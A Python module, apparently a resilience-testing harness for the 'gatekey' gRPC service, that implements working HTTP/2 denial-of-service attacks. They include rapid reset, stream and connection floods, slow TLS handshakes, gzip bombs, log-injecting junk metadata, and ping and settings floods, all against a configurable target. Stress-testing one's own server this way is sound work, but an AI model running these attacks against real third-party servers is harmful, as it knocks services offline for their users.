"""Attacks on a gRPC server at the level of HTTP/2 frames.

Each attack is `async def attack(target, duration_s) -> Counter[str]`: it attacks for so long and returns what it saw.
They keep no rules that a client library would keep: a stream is opened whatever the server allows.
"""

import asyncio
import contextlib
import gzip
import ssl
import struct
from collections import Counter, defaultdict
from collections.abc import AsyncGenerator, Awaitable, Callable, Coroutine, Iterable, Mapping
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Self

from gatekey.v1 import check_service_pb2
from grpc_health.v1 import health_pb2
from h2.connection import H2Connection
from hpack import Decoder, Encoder
from hyperframe.frame import (
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

CHECK = "/gatekey.v1.CheckService/Check"
BATCH_CHECK = "/gatekey.v1.CheckService/BatchCheck"
WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"

_WINDOW = 65_535
_MAX_FRAME = 16_384
_CANCEL = 8
_PROTOCOL_ERROR = 1
_PAUSE_S = 0.01
_BOMB_BYTES = 20 << 20


@dataclass(frozen=True)
class Target:
    """A server, and how to reach it."""

    host: str
    port: int
    ca: Path | None = None
    """The authority of its certificate; None for plain text."""
    token: str | None = None
    """A service token to present; None for none."""

    @classmethod
    def at(cls, address: str, ca: Path | None = None, token: str | None = None) -> Self:
        """The server at HOST:PORT."""
        host, _, port = address.rpartition(":")
        return cls(host, int(port), ca, token)

    def tls(self) -> ssl.SSLContext | None:
        """How to secure a connection."""
        if self.ca is None:
            return None
        context = ssl.create_default_context(cafile=str(self.ca))
        context.check_hostname = False
        context.set_alpn_protocols(["h2"])
        return context


Attack = Callable[[Target, float], Coroutine[Any, Any, Counter[str]]]


class Peer:
    """One connection, frame by frame."""

    def __init__(self, target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.target = target
        self.seen: Counter[str] = Counter()
        self.ended: dict[int, dict[str, str]] = {}
        """The headers and trailers of streams that are over; `reset` where one was reset."""
        self.messages: defaultdict[int, bytes] = defaultdict(bytes)
        self.goaways: list[tuple[int, int]] = []
        """Last stream and error code of each GOAWAY."""
        self.is_open = True
        self._reader, self._writer = reader, writer
        self._encoder, self._decoder = Encoder(), Decoder()
        # Or else every header that is sent again takes a byte, and a large one costs the attacker nothing.
        self._encoder.header_table_size = 0
        self._next_stream = 1
        self._stream_window = _WINDOW
        self._credit = defaultdict[int, int](lambda: self._stream_window)
        self._credit[0] = _WINDOW
        self._headers: defaultdict[int, dict[str, str]] = defaultdict(dict)
        self._news = asyncio.Condition()

    def open(
        self,
        path: str,
        metadata: Iterable[tuple[str, str]] = (),
        *,
        ends: bool = False,
        authorization: str | bytes | None = None,
    ) -> int:
        """Send the headers of a call; returns its stream."""
        stream, self._next_stream = self._next_stream, self._next_stream + 2
        token = self.target.token
        if authorization is None and token is not None:
            authorization = f"Bearer {token}"
        headers = [
            (":method", "POST"),
            (":scheme", "https" if self.target.ca else "http"),
            (":path", path),
            (":authority", "gatekey"),
            ("te", "trailers"),
            ("content-type", "application/grpc"),
            *([("authorization", authorization)] if authorization is not None else []),
            *metadata,
        ]
        block = self._encoder.encode(headers, huffman=False)
        flags = {"END_STREAM"} if ends else set[str]()
        first, rest = block[:_MAX_FRAME], block[_MAX_FRAME:]
        self._send(HeadersFrame(stream, data=first, flags=[*flags, *([] if rest else ["END_HEADERS"])]))
        while rest:
            part, rest = rest[:_MAX_FRAME], rest[_MAX_FRAME:]
            self._writer.write(
                struct.pack(">I", len(part))[1:] + bytes((9, 0 if rest else 4)) + struct.pack(">I", stream) + part
            )
        return stream

    def data(self, stream: int, data: bytes, *, ends: bool = False) -> None:
        """Send data of a call, whatever the windows say."""
        for start in range(0, len(data) or 1, _MAX_FRAME):
            part = data[start : start + _MAX_FRAME]
            is_last = start + _MAX_FRAME >= len(data)
            self._send(DataFrame(stream, data=part, flags=["END_STREAM"] if ends and is_last else []))

    async def data_within_windows(self, stream: int, data: bytes) -> None:
        """Send data as the server lets it come."""
        while data and self.is_open and stream not in self.ended:
            size = min(len(data), _MAX_FRAME, self._credit[0], self._credit[stream])
            if size <= 0:
                async with self._news:
                    await self._news.wait()
                continue
            self._credit[0] -= size
            self._credit[stream] -= size
            self.data(stream, data[:size])
            data = data[size:]
            await self.flush()

    def call(
        self, path: str, message: bytes, metadata: Iterable[tuple[str, str]] = (), *, compressed: bool = False
    ) -> int:
        """Send a whole call; returns its stream."""
        stream = self.open(path, metadata)
        self.data(stream, frame(message, compressed=compressed), ends=True)
        return stream

    def reset(self, stream: int) -> None:
        """Cancel a call."""
        self._send(RstStreamFrame(stream, error_code=_CANCEL))

    def settings(self) -> None:
        """Send settings, which want an acknowledgement."""
        self._send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 1 << 20}))

    def ping(self) -> None:
        """Send a ping."""
        self._send(PingFrame(0, opaque_data=b"attacked"))

    def goaway(self, text: bytes) -> None:
        """Say farewell, with a text that the server may want to tell."""
        self._send(GoAwayFrame(0, last_stream_id=0, error_code=_PROTOCOL_ERROR, additional_data=text))

    async def flush(self) -> None:
        """Wait until what was sent is on its way."""
        try:
            await self._writer.drain()
        except OSError:
            self.is_open = False

    async def end_of(self, stream: int, timeout_s: float = 10) -> Mapping[str, str]:
        """Wait for the end of a call; returns its headers and trailers."""
        async with asyncio.timeout(timeout_s), self._news:
            while stream not in self.ended and self.is_open:
                await self._news.wait()
        return self.ended.get(stream, {"closed": "the connection"})

    async def read(self) -> None:
        """Take what the server sends until the connection ends."""
        rest = b""
        try:
            while data := await self._reader.read(1 << 16):
                rest += data
                while len(rest) >= 9 and len(rest) >= 9 + int.from_bytes(rest[:3], "big"):
                    head, length = Frame.parse_frame_header(memoryview(rest[:9]))
                    head.parse_body(memoryview(rest[9 : 9 + length]))
                    rest = rest[9 + length :]
                    self._take(head)
                async with self._news:
                    self._news.notify_all()
        except (OSError, ssl.SSLError):
            self.seen["connection lost"] += 1
        finally:
            self.is_open = False
            async with self._news:
                self._news.notify_all()

    def _take(self, frame: Frame) -> None:
        self.seen[type(frame).__name__] += 1
        if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            window = frame.settings.get(SettingsFrame.INITIAL_WINDOW_SIZE, self._stream_window)
            for stream in self._credit.keys() - {0}:
                self._credit[stream] += window - self._stream_window
            self._stream_window = window
            self._send(SettingsFrame(0, flags=["ACK"]))
        elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
            self._send(PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]))
        elif isinstance(frame, WindowUpdateFrame):
            self._credit[frame.stream_id] += frame.window_increment
        elif isinstance(frame, GoAwayFrame):
            self.goaways.append((frame.last_stream_id, frame.error_code))
        elif isinstance(frame, RstStreamFrame):
            self.ended.setdefault(frame.stream_id, {**self._headers[frame.stream_id], "reset": str(frame.error_code)})
        elif isinstance(frame, DataFrame):
            self.messages[frame.stream_id] += frame.data
            if frame.data:
                self._send(WindowUpdateFrame(0, window_increment=len(frame.data)))
        elif isinstance(frame, HeadersFrame):
            for name, value in self._decoder.decode(frame.data, raw=True):
                self._headers[frame.stream_id][bytes(name).decode()] = bytes(value).decode(errors="replace")
            if "END_STREAM" in frame.flags:
                self.ended[frame.stream_id] = self._headers.pop(frame.stream_id)
                self.seen[f"grpc-status {self.ended[frame.stream_id].get('grpc-status')}"] += 1

    def _send(self, frame: Frame) -> None:
        if not self._writer.is_closing():
            self._writer.write(frame.serialize())


def frame(message: bytes, *, compressed: bool = False) -> bytes:
    """A message as gRPC frames it."""
    return bytes((int(compressed),)) + struct.pack(">I", len(message)) + message


@asynccontextmanager
async def connect(target: Target) -> AsyncGenerator[Peer]:
    """A connection that has sent its preface and takes what comes."""
    reader, writer = await asyncio.open_connection(
        target.host, target.port, ssl=target.tls(), server_hostname=target.host if target.ca else None
    )
    peer = Peer(target, reader, writer)
    greeting = H2Connection()
    greeting.initiate_connection()
    writer.write(greeting.data_to_send())
    reading = asyncio.create_task(peer.read())
    try:
        yield peer
    finally:
        reading.cancel()
        writer.transport.abort()
        await asyncio.gather(reading, return_exceptions=True)


async def repeatedly(target: Target, duration_s: float, attack: Callable[[Peer], Awaitable[None]]) -> Counter[str]:
    """Attack over one connection after another: the server may end any of them."""
    seen: Counter[str] = Counter()
    ends_at = asyncio.get_running_loop().time() + duration_s
    while (left := ends_at - asyncio.get_running_loop().time()) > 0:
        try:
            async with connect(target) as peer:
                seen["connections"] += 1
                with contextlib.suppress(TimeoutError):
                    async with asyncio.timeout(left):
                        await attack(peer)
            seen += peer.seen
        except OSError:
            seen["refused connections"] += 1
        await asyncio.sleep(_PAUSE_S)
    return seen


async def _hold(peer: Peer) -> None:
    await peer.flush()
    while peer.is_open:
        await asyncio.sleep(_PAUSE_S)


async def header_only_streams(target: Target, duration_s: float, *, streams: int = 2100) -> Counter[str]:
    """Streams of which only the headers are sent; the message never comes."""

    async def attack(peer: Peer) -> None:
        for _ in range(streams):
            peer.open(CHECK)
        await _hold(peer)

    return await repeatedly(target, duration_s, attack)


async def unfinished_messages(target: Target, duration_s: float, *, streams: int = 200) -> Counter[str]:
    """Messages of 1 MiB of which the last byte never comes."""
    size = 1 << 20
    message = struct.pack(">BI", 0, size) + bytes(size - 1)

    async def attack(peer: Peer) -> None:
        await asyncio.gather(*(peer.data_within_windows(peer.open(BATCH_CHECK), message) for _ in range(streams)))
        await _hold(peer)

    return await repeatedly(target, duration_s, attack)


async def rapid_reset(target: Target, duration_s: float) -> Counter[str]:
    """Calls that are cancelled as soon as they are sent, as fast as it goes."""
    message = frame(check_service_pb2.CheckRequest(key="x", resource="links", action="read").SerializeToString())

    async def attack(peer: Peer) -> None:
        while peer.is_open:
            for _ in range(100):
                stream = peer.open(CHECK)
                peer.data(stream, message, ends=True)
                peer.reset(stream)
            await peer.flush()
            await asyncio.sleep(0)

    return await repeatedly(target, duration_s, attack)


async def watch_flood(target: Target, duration_s: float, *, streams: int = 2100) -> Counter[str]:
    """Watches of health that are held open."""
    message = frame(health_pb2.HealthCheckRequest().SerializeToString())

    async def attack(peer: Peer) -> None:
        for _ in range(streams):
            peer.data(peer.open(WATCH), message, ends=True)
        await _hold(peer)

    return await repeatedly(target, duration_s, attack)


async def reflection_flood(target: Target, duration_s: float, *, streams: int = 2100) -> Counter[str]:
    """Reflection streams that ask nothing and are held open."""

    async def attack(peer: Peer) -> None:
        for _ in range(streams):
            peer.open(REFLECTION)
        await _hold(peer)

    return await repeatedly(target, duration_s, attack)


async def no_preface(target: Target, duration_s: float, *, connections: int = 500) -> Counter[str]:
    """Connections on which nothing is sent; over TLS, nothing after the handshake."""
    return await _silent(target, duration_s, connections, target.tls())


async def slow_tls_handshake(target: Target, duration_s: float, *, connections: int = 500) -> Counter[str]:
    """Connections that send a byte of a TLS handshake now and then."""
    return await _silent(
        target, duration_s, connections, None, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500)
    )


async def _silent(
    target: Target, duration_s: float, connections: int, tls: ssl.SSLContext | None, drip: bytes = b""
) -> Counter[str]:
    seen: Counter[str] = Counter()
    name = target.host if tls else None

    async def hold() -> None:
        while True:
            try:
                reader, writer = await asyncio.open_connection(target.host, target.port, ssl=tls, server_hostname=name)
            except OSError:
                seen["refused connections"] += 1
                await asyncio.sleep(0.1)
                continue
            seen["connections"] += 1
            try:
                for byte in drip:
                    writer.write(bytes((byte,)))
                    with contextlib.suppress(TimeoutError):
                        async with asyncio.timeout(0.5):
                            if not await reader.read(1 << 16):
                                break
                while await reader.read(1 << 16):
                    pass
                seen["ended by the server"] += 1
            except OSError:
                seen["ended by the server"] += 1
            finally:
                writer.transport.abort()

    tasks = [asyncio.create_task(hold()) for _ in range(connections)]
    await asyncio.sleep(duration_s)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    return seen


async def junk_metadata(target: Target, duration_s: float) -> Counter[str]:
    """Calls with metadata that is too large, not ASCII, or made to be logged."""
    junk = [
        [("cookie", "c" * 60_000)],
        [("cookie", "c" * 15_000)],
        [(f"x-{number}", "\x1b[31m") for number in range(100)],
        [("x-text", "ü\xa0"), ("grpc-timeout", "99999999999S")],
        [("x-junk-bin", "!!!!")],
        [("grpc-encoding", "\x07bell")],
    ]

    async def attack(peer: Peer) -> None:
        while peer.is_open:
            for metadata in junk:
                for authorization in (None, "Bearer gk_\xa0junk\xa0", "\x00"):
                    stream = peer.open(CHECK, metadata, authorization=authorization)
                    peer.data(stream, frame(b""), ends=True)
            await peer.flush()
            await asyncio.sleep(_PAUSE_S)

    return await repeatedly(target, duration_s, attack)


def gzip_bomb() -> bytes:
    """A kilobyte that is a `BatchCheckRequest` of 500,000 empty checks with a text that is not UTF-8 at its end."""
    bad = b"\x0a\x01\xff"
    return gzip.compress(b"\x0a\x00" * 500_000 + b"\x0a" + bytes((len(bad),)) + bad, 9)


async def gzip_bombs(target: Target, duration_s: float) -> Counter[str]:
    """Small messages that are large once decompressed."""
    bombs = [gzip_bomb(), gzip.compress(bytes(_BOMB_BYTES), 9)]

    async def attack(peer: Peer) -> None:
        while peer.is_open:
            streams = [peer.call(BATCH_CHECK, bomb, [("grpc-encoding", "gzip")], compressed=True) for bomb in bombs]
            await peer.flush()
            for stream in streams:
                await peer.end_of(stream)

    return await repeatedly(target, duration_s, attack)


async def ping_flood(target: Target, duration_s: float) -> Counter[str]:
    """Pings, as fast as it goes."""

    async def attack(peer: Peer) -> None:
        while peer.is_open:
            for _ in range(100):
                peer.ping()
            await peer.flush()
            await asyncio.sleep(0)

    return await repeatedly(target, duration_s, attack)


async def settings_flood(target: Target, duration_s: float) -> Counter[str]:
    """Settings, each of which wants an acknowledgement, as fast as it goes."""

    async def attack(peer: Peer) -> None:
        while peer.is_open:
            for _ in range(100):
                peer.settings()
            await peer.flush()
            await asyncio.sleep(0)

    return await repeatedly(target, duration_s, attack)


async def malformed_batches(target: Target, duration_s: float) -> Counter[str]:
    """As the gzip bomb, but not compressed: as many empty checks as fit into a message."""
    message = b"\x0a\x00" * 500_000 + b"\x0a\x03\x0a\x01\xff"

    async def attack(peer: Peer) -> None:
        while peer.is_open:
            stream = peer.open(BATCH_CHECK)
            await peer.data_within_windows(stream, frame(message))
            peer.data(stream, b"", ends=True)
            await peer.end_of(stream)

    return await repeatedly(target, duration_s, attack)


ATTACKS: Mapping[str, Attack] = {
    attack.__name__: attack
    for attack in (
        header_only_streams,
        unfinished_messages,
        rapid_reset,
        watch_flood,
        reflection_flood,
        no_preface,
        slow_tls_handshake,
        junk_metadata,
        gzip_bombs,
        malformed_batches,
        ping_flood,
        settings_flood,
    )
}
"""All of them, by name."""

__all__ = ["ATTACKS", "Attack", "Peer", "Target", "connect", "frame", "gzip_bomb", "repeatedly"]
